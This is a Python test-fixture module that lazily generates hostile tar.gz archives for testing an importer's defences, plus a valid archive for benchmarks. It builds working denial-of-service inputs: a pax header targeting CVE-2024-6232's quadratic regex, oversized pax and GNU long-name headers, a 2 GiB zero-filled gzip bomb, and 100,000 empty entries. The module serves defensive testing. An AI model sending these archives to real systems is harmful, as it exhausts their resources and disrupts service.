"""Attack archives of issue 13, generated as streams of gzip pieces (never whole in memory),
and a valid archive of a chosen size; shared by the tests and bench/import_bench.py."""

from __future__ import annotations

import random
import zlib
from collections.abc import Iterable, Iterator

BLOCK = 512
MIB = 1024 * 1024
PIECE = 1 * MIB


def tar_header(name: bytes, size: int, kind: bytes = b"0") -> bytes:
    """A ustar header block with a correct checksum."""
    header = bytearray(BLOCK)
    header[0 : len(name[:100])] = name[:100]
    header[100:108] = b"0000644\x00"
    header[108:116] = b"0000000\x00"
    header[116:124] = b"0000000\x00"
    header[124:136] = f"{size:011o}".encode() + b"\x00"
    header[136:148] = b"00000000000\x00"
    header[148:156] = b" " * 8
    header[156:157] = kind
    header[257:265] = b"ustar\x0000"
    checksum = sum(header)
    header[148:156] = f"{checksum:06o}".encode() + b"\x00 "
    return bytes(header)


def padded(size: int) -> int:
    return -(-size // BLOCK) * BLOCK


def gzip_stream(tar_pieces: Iterable[bytes], *, level: int = 1) -> Iterator[bytes]:
    """gzip-compresses `tar_pieces` lazily, yielding compressed pieces of about PIECE bytes."""
    compressor = zlib.compressobj(level, zlib.DEFLATED, 16 + zlib.MAX_WBITS)
    out = bytearray()
    for piece in tar_pieces:
        out += compressor.compress(piece)
        if len(out) >= PIECE:
            yield bytes(out)
            out.clear()
    out += compressor.flush()
    if out:
        yield bytes(out)


def repeated(byte: bytes, total: int) -> Iterator[bytes]:
    chunk = byte * PIECE
    left = total
    while left > 0:
        yield chunk[: min(PIECE, left)]
        left -= PIECE


def _end() -> Iterator[bytes]:
    yield b"\x00" * (2 * BLOCK)


def pax_digits(count: int = 120_000) -> Iterator[bytes]:
    """A pax header whose record is `count` digits (CVE-2024-6232's quadratic regex)."""

    def tar() -> Iterator[bytes]:
        yield tar_header(b"././@PaxHeader", count, b"x")
        yield from repeated(b"1", count)
        yield b"\x00" * (padded(count) - count)
        yield tar_header(b"MEMORY.md", 0)
        yield from _end()

    return gzip_stream(tar())


def pax_declaring(size: int = 1024 * MIB, sent: int = 64 * MIB) -> Iterator[bytes]:
    """A pax header declaring `size` bytes, followed by `sent` bytes of it."""

    def tar() -> Iterator[bytes]:
        yield tar_header(b"././@PaxHeader", size, b"x")
        yield from repeated(b"9", sent)

    return gzip_stream(tar())


def gnu_long_name(size: int = 256 * MIB) -> Iterator[bytes]:
    """A GNU long-name header of `size` bytes, all of them sent."""

    def tar() -> Iterator[bytes]:
        yield tar_header(b"././@LongLink", size, b"L")
        yield from repeated(b"a", size)
        yield b"\x00" * (padded(size) - size)
        yield tar_header(b"MEMORY.md", 0)
        yield from _end()

    return gzip_stream(tar())


def gzip_of_zeros(total: int = 2048 * MIB) -> Iterator[bytes]:
    """A gzip of `total` zero bytes (to tar, one long end-of-archive)."""
    return gzip_stream(repeated(b"\x00", total))


def empty_entries(count: int = 100_000) -> Iterator[bytes]:
    """`count` empty documents."""

    def tar() -> Iterator[bytes]:
        batch = bytearray()
        for index in range(count):
            batch += tar_header(f"e/{index}.md".encode(), 0)
            if len(batch) >= PIECE:
                yield bytes(batch)
                batch.clear()
        yield bytes(batch)
        yield from _end()

    return gzip_stream(tar())


ATTACKS = {
    "pax_120k_digits": pax_digits,
    "pax_declares_1gib": pax_declaring,
    "gnu_long_name_256mib": gnu_long_name,
    "gzip_2gib_zeros": gzip_of_zeros,
    "100k_empty_entries": empty_entries,
}

WORDS = (
    "deploy notes memory agent project billing search index quota tenant archive review "
    "meeting budget release window customer ticket retry backoff cache latency throughput"
).split()


def valid_archive(total: int, *, doc_bytes: int = 1 * MIB, seed: int = 7) -> Iterator[bytes]:
    """A valid archive of Markdown documents, about `total` bytes of them."""
    rng = random.Random(seed)

    def document() -> bytes:
        lines = []
        size = 0
        while size < doc_bytes - 200:
            line = " ".join(rng.choices(WORDS, k=12)) + "\n"
            lines.append(line)
            size += len(line)
        return ("# notes\n\n" + "".join(lines)).encode()

    def tar() -> Iterator[bytes]:
        written = 0
        index = 0
        while written < total:
            data = document()
            yield tar_header(f"docs/{index}.md".encode(), len(data))
            yield data + b"\x00" * (padded(len(data)) - len(data))
            written += len(data)
            index += 1
        yield from _end()

    return gzip_stream(tar(), level=6)
